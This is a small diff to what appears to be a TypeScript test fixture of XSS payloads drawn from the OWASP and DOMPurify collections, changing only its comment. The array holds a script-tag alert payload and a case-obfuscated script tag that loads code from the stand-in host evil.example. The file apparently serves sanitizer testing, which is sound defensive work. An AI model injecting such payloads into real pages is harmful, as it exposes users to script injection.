@@ -1,4 +1,4 @@
-/** Markup that ran somewhere once: the kinds of the OWASP and DOMPurify collections. */
+/** Markup that has been executed by browsers: the kinds of the OWASP and DOMPurify collections. */
 export const hostileTexts: readonly string[] = [
   '<script>alert(1)</script>',
   '<ScRiPt src=//evil.example/x.js></sCrIpT>',
